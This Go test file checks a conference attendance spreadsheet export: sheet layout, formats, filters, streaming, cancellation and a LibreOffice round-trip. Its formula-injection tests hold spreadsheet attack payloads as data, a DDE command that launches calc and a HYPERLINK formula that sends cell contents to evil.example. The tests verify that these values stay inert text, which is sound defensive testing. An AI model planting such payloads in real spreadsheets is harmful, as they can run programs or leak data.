package export

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"congres/data"

	"github.com/xuri/excelize/v2"
)

func wbWrite(t testing.TB, in AttendanceInput, opts WorkbookOptions) (*excelize.File, []byte) {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteAttendance(context.Background(), &buf, in, opts); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, buf.Bytes()
}

// rows reads a sheet's rows.
func wbRows(t testing.TB, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rr, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	return rr
}

func wbColumn(t testing.TB, header []string, label string) string {
	t.Helper()
	i := slices.Index(header, label)
	if i < 0 {
		t.Fatalf("no column %q in %q", label, header)
	}
	name, _ := excelize.ColumnNumberToName(i + 1)
	return name
}

func wbNumFmt(t testing.TB, f *excelize.File, sheet, cell string) string {
	t.Helper()
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	if st.CustomNumFmt == nil {
		return strconv.Itoa(st.NumFmt)
	}
	return *st.CustomNumFmt
}

// cellTime reads a date cell's number back as the wall-clock time it was
// written from.
func wbCellTime(t testing.TB, f *excelize.File, sheet, cell string) time.Time {
	t.Helper()
	raw, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	v, err := strconv.ParseFloat(raw, 64)
	if err != nil {
		t.Fatalf("%s!%s = %q, not a number", sheet, cell, raw)
	}
	tm, err := excelize.ExcelDateToTime(v, false)
	if err != nil {
		t.Fatal(err)
	}
	return tm.Round(time.Second)
}

// wbElsewhere is a time zone no machine lives in: a time given in it must
// still be written at the local wall clock.
var wbElsewhere = time.FixedZone("elsewhere", 5*3600+1800)

// wbWallClock is the local wall clock of t, as a spreadsheet holds it.
func wbWallClock(t time.Time) time.Time {
	t = t.Local()
	return time.Date(t.Year(), t.Month(), t.Day(), t.Hour(), t.Minute(), t.Second(), 0, time.UTC)
}

// sheetXML is the XML of the i-th sheet (from 0) as written.
func wbSheetXML(t testing.TB, file []byte, i int) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open(fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1))
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestWorkbookAttendanceSheets(t *testing.T) {
	const n = 60
	in := wbInput(n, 12, 30, 5, 0)
	f, _ := wbWrite(t, in, WorkbookOptions{Lang: "fr"})
	want := []string{"Synthèse", "Participants", "Plénière d’ouverture", "Atelier 1 - financer l’ESS",
		"Atelier 1 - FINANCER l’ESS (2)", "(Atelier) 2-3 — Les coopérativ…", "Stands", "Restauration"}
	if got := f.GetSheetList(); !slices.Equal(got, want) {
		t.Fatalf("sheets %q, want %q", got, want)
	}

	t.Run("ParticipantsHeader", func(t *testing.T) {
		rr := wbRows(t, f, "Participants")
		wantHeader := []string{"Code", "Nom", "Prénom", "E-mail", "Téléphone", "Organisation", "Fonction", "Catégorie",
			"Région", "Journées", "Statut", "Tarif", "Payé", "Régime alimentaire", "Accessibilité", "Droit à l'image",
			"Badge imprimé", "Notes", "Inscrit·e le", "Modifié le", "Arrivée jeu. 25 nov.", "Arrivée ven. 26 nov."}
		if !slices.Equal(rr[0], wantHeader) {
			t.Fatalf("header %q,\nwant %q", rr[0], wantHeader)
		}
		if len(rr)-1 != n {
			t.Fatalf("%d people written, want %d", len(rr)-1, n)
		}
	})

	t.Run("SessionCounts", func(t *testing.T) {
		for i, ss := range in.Sessions {
			name := want[2+i]
			rr := wbRows(t, f, name)
			// The session's title, its day, time and room, then the table.
			if rr[0][0] != ss.Session.Title {
				t.Errorf("%s: title %q", name, rr[0])
			}
			header, people := wbSessionTable(t, f, name)
			if len(people) != len(ss.Attendees) {
				t.Errorf("%s: %d rows, want %d", name, len(people), len(ss.Attendees))
			}
			wantHeader := []string{"Nom", "Prénom", "Organisation", "Catégorie", "Inscrit·e", "Présent·e", "Heure", "Signature"}
			if !slices.Equal(header, wantHeader) {
				t.Errorf("%s: header %q", name, header)
			}
			for r, a := range ss.Attendees {
				row := people[r]
				enrolled := map[bool]string{true: "Oui", false: "Non (sur place)"}[a.Enrolled]
				attended := map[bool]string{true: "Oui", false: "Non"}[a.Attended]
				if row[0] != a.LastName || row[4] != enrolled || row[5] != attended {
					t.Errorf("%s row %d: %q", name, r+2, row)
				}
				if h, _ := f.GetRowHeight(name, r+4); h < 25 {
					t.Errorf("%s row %d: %v pt high, too little to sign", name, r+4, h)
				}
			}
		}
	})

	t.Run("StandsAndCatering", func(t *testing.T) {
		rr := wbRows(t, f, "Stands")
		if len(rr)-1 != len(in.Stands) || rr[1][0] != "1" || rr[1][7] != "Camille Martin, Łukasz Żółkiewski" || rr[1][8] != "Oui" {
			t.Errorf("stands: %q", rr)
		}
		if ty, _ := f.GetCellType("Stands", "J2"); ty != excelize.CellTypeUnset && ty != excelize.CellTypeNumber {
			t.Errorf("tables typed %v, want a number", ty)
		}
		rr = wbRows(t, f, "Restauration")
		if len(rr)-1 != 6 || rr[1][1] != "Sans régime particulier" || rr[1][2] != "100" {
			t.Errorf("catering: %q", rr)
		}
		if got := wbCellTime(t, f, "Restauration", "A2"); !got.Equal(wbWallClock(wbCongress.Days[0].Time())) {
			t.Errorf("catering day %v", got)
		}
	})

	t.Run("Summary", func(t *testing.T) {
		rr := wbRows(t, f, "Synthèse")
		if !strings.Contains(rr[0][0], "Congrès R&D de la fédération — 19e") {
			t.Errorf("title %q", rr[0][0])
		}
		var sessions int
		for i, r := range rr {
			if len(r) > 0 && r[0] == "Session" {
				sessions = i + 1 // 1-based row of the header
			}
		}
		if sessions == 0 {
			t.Fatalf("no sessions table: %q", rr)
		}
		if got := len(rr) - sessions; got != len(in.Summary.Sessions) {
			t.Errorf("%d sessions in the summary, want %d", got, len(in.Summary.Sessions))
		}
		// Fill rate: enrolled / capacity, as a percentage.
		cell := fmt.Sprintf("L%d", sessions+1)
		if got := wbNumFmt(t, f, "Synthèse", cell); got != "0%" && got != "9" {
			t.Errorf("fill rate format %q", got)
		}
		raw, _ := f.GetCellValue("Synthèse", cell, excelize.Options{RawCellValue: true})
		if v, _ := strconv.ParseFloat(raw, 64); math.Abs(v-12.0/150) > 1e-9 {
			t.Errorf("fill rate %q, want %v", raw, 12.0/150)
		}
		// The start time is a time of day.
		if got := wbNumFmt(t, f, "Synthèse", fmt.Sprintf("D%d", sessions+1)); got != "hh:mm" {
			t.Errorf("start format %q", got)
		}
	})
}

func TestWorkbookAttendanceTypes(t *testing.T) {
	const n = 20
	in := wbInput(n, 4)
	f, _ := wbWrite(t, in, WorkbookOptions{Lang: "fr"})
	const sh = "Participants"
	header := wbRows(t, f, sh)[0]

	t.Run("DatesAreDates", func(t *testing.T) {
		created, arrival := wbColumn(t, header, "Inscrit·e le"), wbColumn(t, header, "Arrivée ven. 26 nov.")
		for i := range n {
			a := wbAttendee(i, wbCongress.Days)
			r := strconv.Itoa(i + 2)
			if got := wbCellTime(t, f, sh, created+r); !got.Equal(wbWallClock(a.CreatedAt)) {
				t.Errorf("row %s: created %v, want %v", r, got, a.CreatedAt)
			}
			if got := wbNumFmt(t, f, sh, created+r); got != "dd/mm/yyyy hh:mm" {
				t.Errorf("created format %q", got)
			}
			if a.Arrivals[1].IsZero() {
				if v, _ := f.GetCellValue(sh, arrival+r); v != "" {
					t.Errorf("row %s: arrival %q, want empty", r, v)
				}
				continue
			}
			if got := wbCellTime(t, f, sh, arrival+r); !got.Equal(wbWallClock(a.Arrivals[1])) {
				t.Errorf("row %s: arrival %v, want %v", r, got, a.Arrivals[1])
			}
			if got := wbNumFmt(t, f, sh, arrival+r); got != "hh:mm" {
				t.Errorf("arrival format %q", got)
			}
		}
	})

	t.Run("NumbersAndYesNo", func(t *testing.T) {
		fee, paid := wbColumn(t, header, "Tarif"), wbColumn(t, header, "Payé")
		raw, _ := f.GetCellValue(sh, fee+"3", excelize.Options{RawCellValue: true})
		if raw != "120.5" {
			t.Errorf("fee %q, want 120.5 (euros, a number)", raw)
		}
		if got := wbNumFmt(t, f, sh, fee+"3"); !strings.Contains(got, "€") {
			t.Errorf("fee format %q", got)
		}
		for r, want := range map[string]string{"2": "Oui", "3": "Non"} {
			if v, _ := f.GetCellValue(sh, paid+r); v != want {
				t.Errorf("paid row %s = %q, want %q", r, v, want)
			}
		}
		if v, _ := f.GetCellValue(sh, wbColumn(t, header, "Statut")+"3"); v != "Confirmé·e" {
			t.Errorf("status %q", v)
		}
	})

	t.Run("FormulaInjection", func(t *testing.T) {
		cells := map[string]string{
			wbColumn(t, header, "Nom") + "2":                wbInjections[0],
			wbColumn(t, header, "Téléphone") + "3":          wbInjections[1],
			wbColumn(t, header, "Organisation") + "4":       wbInjections[2],
			wbColumn(t, header, "Prénom") + "5":             wbInjections[3],
			wbColumn(t, header, "Fonction") + "6":           wbInjections[4],
			wbColumn(t, header, "Régime alimentaire") + "7": wbInjections[5],
		}
		for cell, want := range cells {
			wbCheckText(t, f, sh, cell, want)
		}
		wbCheckText(t, f, "Plénière d’ouverture", "C4", wbInjections[0]) // under the title rows and the header
		wbCheckText(t, f, "Restauration", "B4", "=cmd|' /C calc'!A0")
		wbCheckText(t, f, "Stands", "G2", "+33 3 20 00 00 00")
	})

	t.Run("LongTextStaysWhole", func(t *testing.T) {
		notes := wbColumn(t, header, "Notes")
		if v, _ := f.GetCellValue(sh, notes+"2"); v != wbAttendee(0, wbCongress.Days).Notes {
			t.Errorf("notes %q", v)
		}
	})
}

// checkText checks that a cell holds text, exactly, with no formula, and
// keeps it text when edited (quotePrefix).
func wbCheckText(t *testing.T, f *excelize.File, sheet, cell, want string) {
	t.Helper()
	if v, _ := f.GetCellValue(sheet, cell); v != want {
		t.Errorf("%s!%s = %q, want %q", sheet, cell, v, want)
	}
	if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
		t.Errorf("%s!%s has a formula %q", sheet, cell, fm)
	}
	if ty, _ := f.GetCellType(sheet, cell); ty != excelize.CellTypeInlineString && ty != excelize.CellTypeSharedString {
		t.Errorf("%s!%s is of type %v, not a string", sheet, cell, ty)
	}
	id, _ := f.GetCellStyle(sheet, cell)
	if xf := f.Styles.CellXfs.Xf[id]; xf.QuotePrefix == nil || !*xf.QuotePrefix {
		t.Errorf("%s!%s: no quotePrefix", sheet, cell)
	}
}

func TestWorkbookAttendanceSetUp(t *testing.T) {
	in := wbInput(30, 8)
	f, file := wbWrite(t, in, WorkbookOptions{Lang: "en"})
	names := map[string]string{}
	for _, dn := range f.GetDefinedName() {
		names[dn.Scope+" "+dn.Name] = dn.RefersTo
	}
	lastRow := map[string]int{"Summary": 0, "Participants": 31, "Plénière d’ouverture": 11, "Stands": 3, "Catering": 7}
	lastCol := map[string]string{"Summary": "M", "Participants": "V", "Plénière d’ouverture": "H", "Stands": "L", "Catering": "D"}
	for i, sh := range f.GetSheetList() {
		t.Run(sh, func(t *testing.T) {
			top := 1 // header rows: a session's sheet has its title and its day, time and room above
			if sh == "Plénière d’ouverture" {
				top = 3
			}
			p, err := f.GetPanes(sh)
			if err != nil || !p.Freeze || p.YSplit != top || p.TopLeftCell != fmt.Sprintf("A%d", top+1) {
				t.Errorf("panes %+v, %v", p, err)
			}
			if got := names[sh+" _xlnm.Print_Titles"]; !strings.HasSuffix(got, fmt.Sprintf("%s!$1:$%d", sheetRef(sh), top)) {
				t.Errorf("print titles %q", got)
			}
			filter := names[sh+" _xlnm._FilterDatabase"]
			if r := lastRow[sh]; r > 0 {
				want := fmt.Sprintf("'%s'!$A$%d:$%s$%d", sh, top, lastCol[sh], r)
				if filter != want {
					t.Errorf("filter %q, want %q", filter, want)
				}
			} else if h := 11 + len(in.Summary.Categories) + len(in.Summary.Days); filter != fmt.Sprintf("'Summary'!$A$%d:$M$%d", h, h+len(in.Summary.Sessions)) {
				t.Errorf("summary filter %q", filter)
			}
			if x := wbSheetXML(t, file, i); !regexp.MustCompile(`<autoFilter ref="\$?A\$?\d+:\$?[A-Z]+\$?\d+"`).MatchString(x) {
				t.Errorf("no autoFilter element")
			}
			wbCheckPrint(t, f, sh)
			hf, err := f.GetHeaderFooter(sh)
			if err != nil || hf == nil || !strings.Contains(hf.OddHeader, "Congrès R&&D de la fédération — 19e") || hf.OddFooter != "&CPage &P / &N" {
				t.Errorf("header/footer %+v, %v", hf, err)
			}
			// The header row is styled: bold, filled, bordered.
			id, _ := f.GetCellStyle(sh, fmt.Sprintf("A%d", top))
			if sh == "Summary" {
				id, _ = f.GetCellStyle(sh, "A4")
			}
			st, _ := f.GetStyle(id)
			if st.Font == nil || !st.Font.Bold || st.Fill.Type != "pattern" || len(st.Border) != 4 {
				t.Errorf("header style %+v", st)
			}
		})
	}
	t.Run("SessionTitle", func(t *testing.T) {
		if v, _ := f.GetCellValue("Plénière d’ouverture", "A2"); !strings.HasPrefix(v, "Plenary — Thursday 25 November 2021 — 09:00–10:30 — Salle Pasteur") {
			t.Errorf("A2 %q", v)
		}
	})
	t.Run("EnglishFormats", func(t *testing.T) {
		rr := wbRows(t, f, "Participants")
		if got := wbNumFmt(t, f, "Participants", wbColumn(t, rr[0], "Registered on")+"2"); got != "yyyy-mm-dd hh:mm" {
			t.Errorf("format %q", got)
		}
		if v, _ := f.GetCellValue("Participants", wbColumn(t, rr[0], "Paid")+"2"); v != "Yes" {
			t.Errorf("paid %q", v)
		}
	})
	t.Run("Widths", func(t *testing.T) {
		width := func(sh, col string) float64 {
			w, err := f.GetColWidth(sh, col)
			if err != nil {
				t.Fatal(err)
			}
			return w
		}
		// Code "K000000": 7 characters and the filter button.
		if w := width("Participants", "A"); w < 9 || w > 14 {
			t.Errorf("code column %v wide", w)
		}
		// The notes' longest line, not the whole text.
		if w := width("Participants", "R"); w < 30 || w > 45 {
			t.Errorf("notes column %v wide", w)
		}
		// Dates and times as wide as they show.
		if w := width("Participants", "S"); w < 16 || w > 22 {
			t.Errorf("date column %v wide", w)
		}
		if w := width("Plénière d’ouverture", "H"); w != 28 {
			t.Errorf("signature column %v wide", w)
		}
		if w := width("Summary", "A"); w > 40 {
			t.Errorf("summary's first column %v wide: the title counts", w)
		}
	})
}

func TestWorkbookAttendanceLongSheet(t *testing.T) {
	// More people than the rows measured before the widths are fixed: the
	// rest stream straight through, in order.
	n := wbSampleRows + 250
	in := wbInput(n)
	f, _ := wbWrite(t, in, WorkbookOptions{Lang: "fr"})
	r, err := f.Rows("Participants")
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	count := 0
	for r.Next() {
		cols, err := r.Columns()
		if err != nil {
			t.Fatal(err)
		}
		if count > 0 && cols[0] != fmt.Sprintf("K%06d", count-1) {
			t.Fatalf("row %d: code %q", count+1, cols[0])
		}
		count++
	}
	if count-1 != n {
		t.Fatalf("%d people, want %d", count-1, n)
	}
}

func TestWorkbookAttendanceProgressAndCancel(t *testing.T) {
	t.Run("Progress", func(t *testing.T) {
		in := wbInput(1234, 3)
		var calls [][2]int
		wbWrite(t, in, WorkbookOptions{Lang: "fr", Progress: func(done, total int) { calls = append(calls, [2]int{done, total}) }})
		want := [][2]int{{500, 1234}, {1000, 1234}, {1234, 1234}}
		if !slices.Equal(calls, want) {
			t.Fatalf("progress %v, want %v", calls, want)
		}
	})
	t.Run("Cancel", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		in := wbInput(5000, 3)
		seen := 0
		people := in.Attendees
		in.Attendees = func(fn func(*data.Attendee) error) error {
			return people(func(a *data.Attendee) error { seen++; return fn(a) })
		}
		var buf bytes.Buffer
		err := WriteAttendance(ctx, &buf, in, WorkbookOptions{Progress: func(done, _ int) {
			if done == 1000 {
				cancel()
			}
		}})
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("err %v, want context.Canceled", err)
		}
		if seen > 1000+wbCheckEvery {
			t.Fatalf("%d people read after cancelling at 1000", seen)
		}
		if buf.Len() != 0 {
			t.Fatalf("%d bytes written by a cancelled export", buf.Len())
		}
	})
	t.Run("CancelLeavesNoTempFile", func(t *testing.T) {
		// Past 16 MiB of sheet XML (some 12,000 people) excelize keeps a
		// sheet in a temporary file: a cancelled export removes it.
		tmp := t.TempDir()
		t.Setenv("TMPDIR", tmp)
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		in := wbBenchAttendance(20000)
		err := WriteAttendance(ctx, io.Discard, in, WorkbookOptions{Progress: func(done, _ int) {
			if done == 18000 {
				if entries, _ := os.ReadDir(tmp); len(entries) == 0 {
					t.Errorf("no temporary file while writing: the test tests nothing")
				}
				cancel()
			}
		}})
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("err %v", err)
		}
		if entries, _ := os.ReadDir(tmp); len(entries) > 0 {
			t.Fatalf("left behind: %v", entries)
		}
	})
	t.Run("IteratorError", func(t *testing.T) {
		boom := errors.New("disk on fire")
		in := wbInput(10)
		in.Attendees = func(fn func(*data.Attendee) error) error { return boom }
		if err := WriteAttendance(context.Background(), io.Discard, in, WorkbookOptions{}); !errors.Is(err, boom) {
			t.Fatalf("err %v", err)
		}
	})
	t.Run("NoPeople", func(t *testing.T) {
		in := wbInput(0)
		in.Attendees = nil
		f, _ := wbWrite(t, in, WorkbookOptions{Lang: "fr"})
		if rr := wbRows(t, f, "Participants"); len(rr) != 1 {
			t.Fatalf("%d rows", len(rr))
		}
	})
}

// TestWorkbookLibreOffice converts every sheet of a workbook to CSV with
// LibreOffice: the file opens, the values are there, the formula-like text
// stays text and dates show as dates.
func TestWorkbookLibreOffice(t *testing.T) {
	lo := libreOffice(t)
	if testing.Short() {
		t.Skip("LibreOffice takes seconds to start")
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "présences.xlsx")
	in := wbInput(40, 10, 5)
	err := WriteFile(path, func(w io.Writer) error {
		return WriteAttendance(context.Background(), w, in, WorkbookOptions{Lang: "fr"})
	})
	if err != nil {
		t.Fatal(err)
	}
	// 44,34,76: comma, double quote, UTF-8; true: values as shown; -1: every
	// sheet to its own file.
	cmd := exec.Command(lo, "-env:UserInstallation=file://"+filepath.Join(dir, "lo"), "--headless",
		"--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,1036,false,true,true,false,false,-1",
		"--outdir", dir, path)
	// Without a UTF-8 locale (en_US.UTF-8 may not be installed) LibreOffice
	// cannot open a path with accents.
	cmd.Env = append(os.Environ(), "LC_ALL=C.UTF-8")
	out, err := cmd.CombinedOutput()
	t.Logf("%s", out)
	if err != nil {
		t.Fatal(err)
	}
	read := func(sheet string) string {
		b, err := os.ReadFile(filepath.Join(dir, "présences-"+sheet+".csv"))
		if err != nil {
			entries, _ := os.ReadDir(dir)
			t.Fatalf("%v (files: %v)", err, entries)
		}
		return string(b)
	}
	people := read("Participants")
	for _, want := range []string{
		`"=HYPERLINK(""http://evil.example/?""&A1,""x"")"`, "+33 6 12 34 56 78", ",-x,", "@SUM(1)",
		wbAttendee(0, wbCongress.Days).CreatedAt.Local().Format("02/01/2006 15:04"), "120.50 €", "Confirmé·e", "Oui", ",,08:15\n",
	} {
		if !strings.Contains(people, want) {
			t.Errorf("Participants as LibreOffice reads it lacks %q:\n%s", want, wbHead(people, 5))
		}
	}
	if lines := strings.Count(strings.TrimSpace(people), "\n"); lines < 40 {
		t.Errorf("%d lines", lines)
	}
	summary := read("Synthèse")
	for _, want := range []string{"Par catégorie", "jeu. 25/11/2021", ",09:00,10:30,", ",7%,60%"} {
		if !strings.Contains(summary, want) {
			t.Errorf("Synthèse lacks %q:\n%s", want, summary)
		}
	}
	if s := read("Plénière d’ouverture"); !strings.Contains(s, "Non (sur place)") {
		t.Errorf("session sheet:\n%s", s)
	}
}

func wbHead(s string, n int) string {
	lines := strings.SplitN(s, "\n", n+1)
	return strings.Join(lines[:min(n, len(lines))], "\n")
}
